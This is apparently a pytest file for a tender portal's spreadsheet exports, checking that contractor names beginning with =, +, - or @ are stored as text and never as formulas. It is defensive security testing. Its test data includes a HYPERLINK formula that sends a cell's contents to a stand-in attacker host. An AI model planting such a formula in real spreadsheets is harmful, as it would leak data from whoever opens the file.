"""Formula injection: text that starts like a formula (= + - @) — a contractor's name, a contract
title — is written into every spreadsheet export as text, never as a formula."""
import io

import pytest
from openpyxl import Workbook, load_workbook

from portal.core.timeutil import utcnow
from portal.extensions import db
from tests.tender_world import add_opened_bid, evaluation_ready, make_contractor, make_tender, score_all, tenant_id

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


def _cells(data):
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("write_only", [False, True])
@pytest.mark.parametrize("value", [EVIL, "+1+1", "-2+3", "@SUM(1)", "=1"])
def test_formula_like_text_is_written_as_text(write_only, value):
    from portal.core.xlsx import append_row
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("x") if write_only else book.active
    append_row(sheet, [value, "普通文字", 5, -3])
    out = io.BytesIO()
    book.save(out)
    cells = {c.value: c.data_type for c in _cells(out.getvalue())}
    assert cells[value] == "s" and cells["普通文字"] == "s" and cells[5] == "n" and cells[-3] == "n"


def test_the_ranking_and_the_score_sheet_write_a_formula_like_contractor_name_as_text(app, demo):
    from portal.tenancy.scope import tenant_scope
    from portal.tenders.models import Lot
    from portal.tenders.ranking_export import ranking_workbook
    from portal.tenders.score_workbook import sheet_workbook
    tender = make_tender(app, deadline=utcnow())
    lot_id = tender["lots"][0]
    evil = make_contractor(app, name=EVIL, manager="evil-m", staff=1)
    others = [make_contractor(app, name=name, manager=f"m{i}", staff=1)
              for i, name in enumerate(("甲社工服务中心", "-乙养老服务公司"))]
    bids = [add_opened_bid(app, lot_id, k["id"], 10_000_000) for k in (evil, *others)]
    experts = evaluation_ready(app, tender["tender"])
    for bid in bids:
        score_all(app, bid, experts, "40", "20")
    with app.app_context(), tenant_scope(tenant_id(app, "ganxian")):
        lot = db.session.get(Lot, lot_id)
        for data in (ranking_workbook(lot), sheet_workbook(lot)):
            named = [c for c in _cells(data) if c.value == EVIL]
            assert named and all(c.data_type == "s" for c in named)
